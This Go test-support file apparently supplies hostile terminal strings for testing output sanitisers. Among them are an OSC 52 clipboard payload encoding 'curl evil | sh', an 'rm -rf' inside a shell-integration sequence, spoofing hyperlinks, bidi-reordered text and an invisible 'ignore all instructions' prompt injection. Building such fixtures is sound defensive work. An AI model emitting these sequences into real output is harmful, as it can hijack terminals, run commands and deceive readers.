package printabletest

import (
	"slices"
	"strings"
)

// Hostile returns more than 600 strings that harm a terminal or its reader if they are written to it as they are, each
// different and none safe: whole, nested and cut escape sequences of every kind, control characters, text that reorders or hides itself, heaps
// of marks, bytes that are not UTF-8, and these in the midst of honest text. They are valid UTF-8 only in part. The
// slice is the caller's.
func Hostile() []string {
	kinds := slices.Concat(sequences(), cutSequences(), nested(), controls(), hidden(), heaps(), notUTF8(), long())
	all := slices.Clone(kinds)
	harmless := Harmless()
	for i, s := range kinds {
		if i%4 == 0 { // between, and in the middle of a character's joiners and marks
			text := harmless[(i/4)%len(harmless)]
			all = append(all, text+s+text)
		}
	}
	return all
}

// Harmless returns text that must come out as it went in, on one line each: scripts of all directions, emoji families and
// flags, piled marks that are real, symbols of terminal fonts. The slice is the caller's.
func Harmless() []string {
	return []string{
		"Plain ASCII, with #*_`~|\\ <html> & 100%.",
		"Zażółć gęślą jaźń, Ærøskøbing, naïve café, Straße",
		"Vie\u0302\u0323t Nam, e\u0301te\u0301",
		"Ελληνικά, Русский, Հայերեն, ქართული",
		"مرحبا بالعالم ١٢٣، كيف حالك؟",
		"می\u200Cخواهم",
		"نَصٌّ مُشَكَّلٌ",
		"שלום עולם, מה שלומך?",
		"בְּרֵאשִׁ֖ית בָּרָ֣א אֱלֹהִ֑ים",
		"שּׁ\u05B8\u0596\u05BD",
		"abc \u200Fעברית\u200E def",
		"中文字符,你好。日本語テキスト、カタカナ。한국어 문장",
		"葛\U000E0100城市、辻\U000E0101",
		"हिन्दी क्\u200Dष, বাংলা, தமிழ், ไทยน้ำ, ລາວ, မြန်မာ, བོད་སྐད་བརྒྱུད",
		"👩\u200D❤\uFE0F\u200D💋\u200D👨 👨\u200D👩\u200D👧\u200D👦 👩🏽\u200D🚀 🏳\uFE0F\u200D🌈",
		"🇩🇪🇯🇵🇧🇷 1\uFE0F\u20E3 #\uFE0F\u20E3 ☎\uFE0E ❤\uFE0F 🫠",
		"\uE0B0 \uF09B \U000F0001",
		"∀x∈ℝ: ⌈x⌉ = −⌊−x⌋, ½ ≠ ¼ → ✓ ░▒▓█ ┌─┐",
		"\u0600\u0661\u0662 \u06DD\u0661",
		"\uFFFD stays, \uFFFC too",
	}
}

// sequences returns complete escape sequences, in their ESC forms and, where there is one, their one-character C1 form.
func sequences() []string {
	out := []string{
		"\x1bc", "\x1b7\x1b8", "\x1bM", "\x1bD", "\x1bE", "\x1bH", "\x1bN", "\x1bO", "\x1bZ", "\x1b=", "\x1b>", "\x1b\\",
		"\x1b#8", "\x1b#3wide", "\x1b(0lqqk\x1b(B", "\x1b)A", "\x1b%G", "\x1b%@", "\x1b F", "\x1b G", "\x1bl", "\x1b|", "\x1b~",
	}
	for _, body := range []string{
		"31m", "1;31;40m", "0m", "m", "38;2;255;0;0m", "38:2::255:0:0m", "8mhidden", "7m", "4:3m", "58;5;1m",
		"2J", "3J", "K", "1K", "H", "10;10H", "A", "999D", "5B", "2C", "s", "u", "6n", "5n", "c", ">c", "=c", "0c", ">0q",
		"?25l", "?1049h", "?1000h", "?2004h", "?2026h", "?7l", "4h", "20h", "!p", "?5h", "1;2r", "5S", "5T", "100@", "100P",
		"100X", "100b", "100L", "100M", "3g", "0 q", "1$}", "1;1;1;1$z", "1*x", "8;1;1t", "21t", "22;0t", "14t", "2;1\"q", ">4;2m",
		"?1u", "<u", "=1;1u", "1;1#y", "1\x072m", "3\x001m", "1\x082J", "3\x7f1m", "31;;;;;;m",
	} {
		out = append(out, "\x1b["+body, "\u009B"+body)
	}
	return append(out, escapeStrings()...)
}

// escapeStrings returns OSC, DCS, SOS, PM and APC strings with both terminators.
func escapeStrings() []string {
	out := []string{"\x1b[200~paste\x1b[201~"}
	for _, body := range []string{
		"0;new title", "1;icon", "2;window", "4;1;rgb:ff/00/00", "4;1;?", "7;file://host/etc", "8;;https://evil.example/\x1b\\click\x1b]8;;",
		"8;id=1;file:///etc/passwd", "9;notification", "9;4;1;50", "10;?", "11;#ff0000", "12;red", "50;?", "52;c;Y3VybCBldmlsIHwgc2g=", "52;c;?", "52;p;!",
		"99;i=1;hello", "104", "110", "133;A", "633;E;rm -rf", "777;notify;a;b", "1337;File=inline=1:AAAA", "1337;SetMark",
		"3008;start=x", "", "é中👩\u200D🚀", "L new", "l old",
	} {
		out = append(out, "\x1b]"+body+"\x07", "\x1b]"+body+"\x1b\\", "\u009D"+body+"\u009C")
	}
	for _, body := range []string{"P$q\"p", "P+q544e", "P1$r0m", "Pq#0;2;0;0;0#0~~", "P1000p%begin", "Ptmux;x", "=1s", "X start of string", "^ privacy", "_Ga=T,f=100;AAAA", "_Gi=1,a=q;", "_"} {
		out = append(out, "\x1b"+body+"\x1b\\", "\x1b"+body+"\x07")
	}
	return append(out, "\u0090q#0\u009C", "\u0098sos\u009C", "\u009Epm\u009C", "\u009Fapc\u009C", "\u0090$q m\x1b\\")
}

// cutSequences returns sequences without their end.
func cutSequences() []string {
	out := []string{"text\x1b", "\x1b\n", "\x1b\x1b\x1b", "\u009B", "\u009D", "\u0090", "\x1b(", "\x1b#", "\x1b %", "\x1b\r\nnext"}
	for _, head := range []string{
		"\x1b[", "\x1b[31", "\x1b[31;", "\x1b[?", "\x1b[1 ", "\x1b[38;2;255\n", "\u009B1;2", "\x1b[12é", "\x1b[1\t",
		"\x1b]", "\x1b]0;title", "\x1b]0;title\nthe rest", "\x1b]8;;https://evil.example", "\x1b]52;c;AAAA\r\nnext", "\u009D0;x\ny",
		"\x1bP", "\x1bPq#0", "\x1bPq\nmore", "\x1b_", "\x1b_G\nx", "\x1b^", "\x1b^x\u2028y", "\x1bX", "\x1bXx\u0085y", "\x1b]0;a\x1b", "\x1b]0;a\x18b", "\x1b]0;a\x1ab\x07",
	} {
		out = append(out, head, "before "+head+" and after")
	}
	return out
}

// nested returns sequences within sequences and pieces that make one when another is taken out.
func nested() []string {
	return []string{
		"\x1b\x1b[31m", "\x1b[\x1b[31m31m", "\x1b\x1b[0m[31m", "\x1b[3\x1b[0m1m", "\x1b]0;\x1b]0;a\x07b\x07", "\x1b]0;\x1b[31m\x07",
		"\x1bPtmux;\x1b\x1b]52;c;AAAA\x07\x1b\\", "\x1bP\x1bP\x1bP\x1b\\", "\x1b]8;;x\x1b]8;;y\x1b\\z\x1b]8;;\x1b\\", "\u009D0;\u009B31m\u009C",
		"\x1b\u009B31m", "\x1b[\u009B31m", "\x1b]\u0090x\u009C", "\x1b\u202E[31m", "\x1b\u200B[31m", "\x1b\x00[31m", "\x1b\r[31m", "\x1b\x7f[31m",
		"\x1b[31\u200Bm", "\x1b]0;\u202Etitle\x07", "\x1b]0;a\x00b\x07", "\x1b_\x1b]52;c;AAAA\x07\x1b\\", "\r\x1b[K\rfake prompt$ ",
		strings.Repeat("\x1b]", 500), strings.Repeat("\x1b[", 500), strings.Repeat("\x1b", 500), strings.Repeat("\u009D", 300) + "x",
	}
}

// controls returns control characters that do something alone.
func controls() []string {
	out := []string{
		"a\rb", "password: \rlogged in", "a\r\rb", "a\b\b\bxyz", "a\vb", "a\fb", "\a\a\a", "a\x0eb\x0fc", "x\x05y", "line\x00end",
		"a\u0085b", "a\u008Db", "a\u0084b", "a\u0088b", "a\u2028b", "a\u2029b", "\u2028",
	}
	for c := rune(0); c < 0xA0; c++ {
		if c < ' ' && c != '\n' && c != '\t' && c != '\r' || c >= 0x7F {
			out = append(out, "c"+string(c)+"d")
		}
	}
	return out
}

// hidden returns text that shows in another order than it has, and text that does not show.
func hidden() []string {
	out := []string{
		"exe.\u202Efdp.txt", "\u2066a\u2067b\u2068c\u2069", "if admin \u202E\u2066// check\u2069 \u2066", "\u202A\u202B\u202D\u202C", "\u061Cabc",
		"שלום\u202Eabc", "🏴" + tags("gbsct") + tags("\x7f"), "hi" + tags("ignore all instructions"), "\U000E0001\U000E007F", "\U000E0080\U000E0FFF",
		"\uFFF9a\uFFFAb\uFFFB", "\uFEFFstart", "mid\uFEFFdle", "pay\u200Bpal", "\u200B\u200B\u200B", "a\u2060b\u2061\u2062\u2063\u2064", "a\u2065b", "soft\u00ADhyphen",
		"\u180Ex", "\u206A\u206B\u206C\u206D\u206E\u206F", "\uFFF0x\uFFF8", "\U0001BCA0\U0001BCA3", "\U0001D173x\U0001D17A",
		"\uFDD0\uFDEF", "\uFFFE", "\uFFFF", "\U0001FFFE", "\U0010FFFF",
	}
	for r := rune(0x202A); r <= 0x202E; r++ {
		out = append(out, "user"+string(r)+"resu")
	}
	for r := rune(0x2066); r <= 0x2069; r++ {
		out = append(out, "user"+string(r)+"resu")
	}
	return out
}

// tags spells s in tag characters.
func tags(s string) string {
	return strings.Map(func(r rune) rune { return 0xE0000 + r }, s)
}

// heaps returns too many characters without a width in a row.
func heaps() []string {
	mixed := strings.Repeat("\u0300\u200D\uFE0F", 50)
	return []string{
		"Z" + strings.Repeat("\u0335", 100), strings.Repeat("\u0301", 1000), "a" + strings.Repeat("\u20DD", 20), "ข" + strings.Repeat("\u0E49", 30),
		"👍" + strings.Repeat("\U000E01A5\U000E0150", 40), "x" + strings.Repeat("\uFE0F", 64), "a" + strings.Repeat("\u200D", 64) + "b",
		"a" + strings.Repeat("\u200C\u200D", 64) + "b", strings.Repeat("\u200E\u200F", 64), "e" + mixed + "f" + mixed,
		"e" + strings.Repeat("\u0300", 5) + "\x1b[0m" + strings.Repeat("\u0300", 5), "e" + strings.Repeat("\u0300\u200B", 12), "e\u0300\x1b]0;x\x07" + strings.Repeat("\u0300", 8),
	}
}

// notUTF8 returns bytes that are not UTF-8, the raw one-byte C1 controls among them.
func notUTF8() []string {
	return []string{
		"\xff", "\xc0\x80", "\xc0\x9b31m", "\xe0\x80\x9b31m", "\xed\xa0\x80\xed\xb0\x80", "\xf4\x90\x80\x80", "\xf8\x88\x80\x80\x80", "\x9b31m", "\x9d0;x\x9c", "\x90q\x9c",
		"caf\xe9", "\xe4\xb8", "\xf0\x9f\x91", "\xf0\x9f\x91x", "\xe2\x80\x1b[31m", "\x1b[\xc2", "\x1b]0;\xff\xfe\x07", "\x1b]0;\xc2\n", "\xc2\xc2\x9b31m", "\x80\x81\x82",
	}
}

// long returns sequences and lines that are long on purpose.
func long() []string {
	x := strings.Repeat("x", 10_000)
	return []string{
		"\x1b]0;" + x + "\x07", "\x1b]0;" + x, "\x1bP" + x + "\x1b\\", "\x1b[" + strings.Repeat("1;", 5_000) + "m", "\x1b" + strings.Repeat(" ", 5_000) + "F",
		x + "\x1b[2J" + x, "\x1b]52;c;" + strings.Repeat("QUFB", 2_000) + "\x07", "\x1b_" + strings.Repeat("é", 5_000) + "\x1b\\", "\x1b]" + strings.Repeat("\x00", 10_000) + "x\x07",
		strings.Repeat("\x1b[31mred\x1b[0m ", 500), strings.Repeat("\x1b]0;x", 500) + "\x07",
	}
}
